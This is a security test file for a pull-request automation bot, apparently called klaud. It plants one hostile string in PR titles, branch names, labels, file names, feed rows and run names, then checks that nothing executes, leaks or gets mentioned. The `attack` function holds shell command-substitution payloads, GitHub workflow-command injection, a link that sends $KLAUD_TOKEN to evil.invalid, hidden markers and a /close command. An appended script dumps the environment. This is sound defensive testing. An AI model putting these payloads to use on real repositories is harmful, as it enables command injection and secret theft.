"""Hostile text at every place where text of others comes in: nothing is executed, nothing is mentioned, nothing leaves.

One whole wave for real, on a repository in which a pull request's title, body, branch, label and file names, candidates,
rows of the feed, the generator's output and a run's name all carry the same attack. Then everything that klaud wrote or
printed is read. ``docs/security.md`` has the claims.
"""

from __future__ import annotations

import datetime
import json
import re
import time
from typing import TYPE_CHECKING, Any

import pytest

from klaud import clock, fakehub, names
from klaud.cli import demo_world
from klaud.fakehub import scene as scenes
from klaud.github import rest
from klaud.session import model, render, rules_ledger
from tests.support import adopted

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

LEAK = "https://evil.invalid/"


def attack(canary: Path) -> str:
    """Return one text that tries a shell, workflow commands, mentions, hidden text, links, references, a bot's command."""
    return (
        f"$(touch {canary}) `touch {canary}`; touch {canary} '\" && ${{{{ secrets.KLAUD_TOKEN }}}}\n"
        f"::add-path::{canary.parent}\n::stop-commands::x\n@mira @acme/all <!-- klaud:abandoned --> #1 GH-1 "
        f"[here]({LEAK}$KLAUD_TOKEN) ![seen]({LEAK}pixel.png)\n/close\n\x1b]0;title\x07\u202e"
    )


class Attacked:
    """What is left after the wave: the hub, what klaud printed, and the files it wrote."""

    def __init__(self, hub: fakehub.Hub, out: Path, canary: Path, conclusion: str, before: dict[str, str]) -> None:
        self.hub = hub
        self.before = before
        self.out = out
        self.canary = canary
        self.conclusion = conclusion
        self.repository = hub.repository(demo_world.REPOSITORY)
        self.logs = {
            str(path.parent.name): path.read_text(errors="replace") for path in (hub.root / "runs").rglob("output.log")
        }
        self.summaries = [job.summary for run in self.repository.runs.values() for job in run.last.jobs]

    def written(self) -> list[str]:
        """Return every text that the bot's account put where people read: titles, bodies, comments."""
        bot = self.hub.account(demo_world.BOT).id
        found = []
        for issue in self.repository.issues.values():
            if issue.user == bot and issue.number > 4:
                found += [issue.title, issue.body or ""]
            found += [comment.body for comment in issue.comments if comment.user == bot]
        return found


def hostile(scene: dict[str, Any], canary: Path) -> dict[str, Any]:
    """Put the attack everywhere into the demo's scene."""
    text = attack(canary)
    branch = f"x$(touch${{IFS}}{canary})`touch${{IFS}}{canary}`"
    for commit in scene["commits"]:
        if commit["name"] == "person":
            commit["files"][f"docs/$(touch {canary.name}) @mira.md"] = text
        if commit["name"] == "head":
            commit["files"]["README.md"] = text
            offered = demo_world.files(old=False)["candidates.jsonl"]
            evil = {"family": "configs/codecs.yaml:zlib-json", "subject": text, "change": {"zlib-json.image": text}}
            commit["files"]["candidates.jsonl"] = (
                offered + json.dumps(evil) + "\n" + json.dumps({"family": text}) + "\n"
            )
            matrix = demo_world.files(old=False)["tools/matrix.py"]
            shout = f"\nimport os, sys\nprint({text!r}, dict(os.environ), file=sys.stderr)\n"
            commit["files"]["tools/matrix.py"] = matrix + shout
    scene["branches"] = {(branch if name == "faster-mixed" else name): oid for name, oid in scene["branches"].items()}
    scene["labels"] += [f"$(touch {canary.name}) @mira"]
    for pull in scene["pulls"]:
        if pull["number"] == 1:
            pull |= {"head": branch, "title": text, "body": text, "labels": [f"$(touch {canary.name}) @mira"]}
    for run in scene["runs"]:
        if run["id"] == 8815:
            run["title"] = f"{run['title']} {text}"
    rows = scene["feeds"]["rows.json"]["json"]
    rows += [{**rows[0], "framework": text}, {**rows[0], "model": text, "image": text}, {text: text}]
    return scene


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("attacked")
    canary, out = folder / "canary", folder / "out"
    out.mkdir()
    today = datetime.datetime.now(datetime.UTC).date().isoformat()
    scene = hostile(demo_world.scene(demo_world.publish_rows(folder / "published", today), out), canary)
    hub = scenes.build(scenes.Scene(scene), folder / "hub")
    with hub, fakehub.serve(hub) as server:
        hub.commit(demo_world.REPOSITORY, "main", demo_world.configuration(server.url), author=demo_world.MAINTAINER)
        hand = rest.RestGateway(
            repository=demo_world.REPOSITORY,
            token=demo_world.PERSON_TOKEN,
            api_url=server.url,
            clock=clock.SystemClock(),
        )
        before = dict(hub.git(demo_world.REPOSITORY).refs())
        started = hand.dispatch("klaud-plan.yml", "main", {"verb": "wave"}).run_id
        hand.close()
        assert started is not None
        end = time.monotonic() + 250
        run = hub.repository(demo_world.REPOSITORY).runs[started]
        while run.status != "completed" and time.monotonic() < end:
            time.sleep(0.2)
        assert run.status == "completed"
        assert hub.wait_for_runs(60)
        yield Attacked(hub, out, canary, run.conclusion or "", before)


pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]


def test_the_wave_goes_on_all_the_same(attacked: Attacked) -> None:
    found = json.loads((attacked.out / "selection.json").read_text())
    assert found["candidates"], attacked.logs
    assert any(not issue.pull.draft for issue in attacked.repository.issues.values() if issue.pull and issue.number > 4)


def test_nothing_is_executed(attacked: Attacked) -> None:
    """The canary is what every shell in the attack would make, wherever it ran."""
    made = [path for path in attacked.canary.parent.rglob("canary") if ".git" not in str(path.parent)]
    assert made == []


def test_nothing_that_klaud_prints_is_a_workflow_command(attacked: Attacked) -> None:
    """A line that begins with two colons would be obeyed by the runner."""
    for name, text in attacked.logs.items():
        bad = [line for line in re.split(r"[\r\n\v\f\x85\u2028\u2029]", text) if line.lstrip().startswith("::")]
        assert bad == [], name
        assert "\x1b" not in text, name


def test_nothing_is_mentioned_linked_or_hidden(attacked: Attacked) -> None:
    own = {"<!-- klaud:abandoned -->"}
    for text in (*attacked.written(), *attacked.summaries):
        assert not re.search(r"(?<![A-Za-z0-9`])@(mira|acme)", text), text
        assert LEAK not in text, text
        assert set(re.findall(r"<!--.*?-->", text)) <= own, text
        assert not re.search(r"(?m)^/close", text), text


def test_nothing_leaves(attacked: Attacked) -> None:
    """No token, key or environment is in a file, a summary, a log, a comment or a record; no request went elsewhere."""
    texts = [*attacked.written(), *attacked.summaries, *attacked.logs.values()]
    texts += [path.read_text(errors="replace") for path in attacked.out.rglob("*") if path.is_file()]
    git = attacked.hub.git(demo_world.REPOSITORY)
    texts += [info.message for ref, oid in git.refs().items() if (info := git.commit(oid)) and "klaud" in ref]
    for text in texts:
        assert demo_world.BOT_TOKEN not in text
        assert demo_world.PERSON_TOKEN not in text
        assert "KLAUD_TOKEN'" not in text


def test_a_fake_marker_in_a_runs_name_cancels_nobodys_run(attacked: Attacked) -> None:
    cancelled = [run for run in attacked.repository.runs.values() if run.conclusion == "cancelled"]
    assert all(run.id in {8811, 8812, 8813, 8814, 8815, 8821} for run in cancelled)


MAY_WRITE = (
    r"POST /graphql",  # ready for review, back to draft
    r"POST /repos/[^/]+/[^/]+/pulls",
    r"PATCH /repos/[^/]+/[^/]+/pulls/(\d+)",
    r"(?:POST|DELETE) /repos/[^/]+/[^/]+/issues/(\d+)/(?:comments|labels(?:/.*)?)",
    r"POST /repos/[^/]+/[^/]+/actions/workflows/[^/]+/dispatches",
    r"POST /repos/[^/]+/[^/]+/actions/runs/(\d+)/(?:cancel|force-cancel)",
    r"POST /[^/]+/[^/]+\.git/git-receive-pack",
)
"""Every kind of write that klaud sends; groups are the numbers of pull requests and runs."""

KLAUDS = re.compile(r"refs/(?:klaud/.+|heads/klaud/auto-[0-9a-f]{16}-[0-9a-f]{16}|pull/\d+/head)")


def strange(attacked: Attacked) -> list[str]:
    """Return what the bot wrote that is of no known kind, or to what is not klaud's."""
    bot = attacked.hub.account(demo_world.BOT).id
    found = []
    for entry in attacked.hub.log:
        if entry.account != demo_world.BOT or not entry.write:
            continue
        line = f"{entry.method} {entry.path}"
        kind = next((match for one in MAY_WRITE if (match := re.fullmatch(one, line))), None)
        if kind is None:
            found.append(line)
        elif kind.groups() and "/runs/" not in line:
            issue = attacked.repository.issues[int(kind[1])]
            found += [] if issue.user == bot else [f"{line}, which is another's"]
    refs = attacked.hub.git(demo_world.REPOSITORY).refs()
    return found + [ref for ref, oid in refs.items() if not KLAUDS.fullmatch(ref) and attacked.before.get(ref) != oid]


def test_the_bot_writes_to_what_is_klauds_and_nothing_else(attacked: Attacked) -> None:
    """No merge, no review, no other branch, nobody else's pull request: read from every request of the whole wave."""
    assert strange(attacked) == []
    assert set(attacked.before) - set(attacked.hub.git(demo_world.REPOSITORY).refs()) <= set(
        filter(KLAUDS.fullmatch, attacked.before)
    )
    drafts = [issue.pull for issue in attacked.repository.issues.values() if issue.pull]
    assert all(one.merged_at is None and not one.reviews for one in drafts)


def test_a_write_to_another_branch_would_be_seen(attacked: Attacked) -> None:
    twin = Attacked.__new__(Attacked)
    twin.hub, twin.repository = attacked.hub, attacked.repository
    twin.before = {ref: oid for ref, oid in attacked.before.items() if ref != "refs/heads/main"}
    assert strange(twin) == ["refs/heads/main"]


def test_hostile_ids_never_reach_a_path_or_a_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = attack(tmp_path / "canary")
    with adopted.adopted(tmp_path, monkeypatch, capsys) as it:
        before = len(it.hub.log)
        for wave, candidate in (
            (text, "0" * 16 + "-" + "0" * 16),
            ("1.1", "../../x"),
            ("1.1", text),
            ("1.1/../2", text),
        ):
            status, said = it.klaud("session", "--wave", wave, "--candidate", candidate, "--claim", text)
            assert status == 2, said
            assert not any(line.startswith("::") for line in said.splitlines()), said
        assert [one.path for one in it.hub.log[before:]] == []


@pytest.mark.parametrize("where", ["title", "summary", "rationale", "risks"])
def test_what_an_agent_says_is_shown_and_does_nothing(where: str, tmp_path: Path) -> None:
    text = attack(tmp_path / "canary")
    brief = model.Brief(
        wave="1.1", candidate=names.candidate_id("configs/a.yaml:b", text), family="configs/a.yaml:b", base="0" * 40,
        benchmark="b", subject=text,
    )  # fmt: skip
    asked = model.OpenDraft(**{"title": "t", "summary": "s", "rationale": "r", "risks": "k", where: text})
    made = render.draft(brief, asked, limit=700, points=1, bundle="sha256:x", files=[text])
    for shown in (made.title, made.body, render.commit_message(text, candidate=brief.candidate, agent=text[:20])):
        assert not re.search(r"(?<![A-Za-z0-9`])@(mira|acme)", shown)
        assert LEAK not in shown or shown == made.title
        assert "<!-- " not in shown
        assert "\x1b" not in shown
        assert "\u202e" not in shown
        assert not re.search(r"(?m)^(/close|::)", shown)


def test_a_ledger_with_hostile_words_makes_a_card_that_does_nothing(tmp_path: Path) -> None:
    from klaud.leases import model as leases  # noqa: PLC0415 - only here

    text = attack(tmp_path / "canary")
    view = rules_ledger.View(tried=(leases.Attempted(what=text, run_id=1, result=text),))
    card = render.hand_over(view, head=text, label="klaud-handoff")
    assert LEAK not in card
    assert "<!-- " not in card
    assert not re.search(r"(?m)^(/close|::)", card)


def test_a_twin_that_prints_raw_is_caught(attacked: Attacked) -> None:
    """The broken twin: a log with the title as it came is what the check above refuses."""
    twin = Attacked.__new__(Attacked)
    twin.logs = {**attacked.logs, "twin": f"pull request: {attack(attacked.canary)}"}
    with pytest.raises(AssertionError):
        test_nothing_that_klaud_prints_is_a_workflow_command(twin)
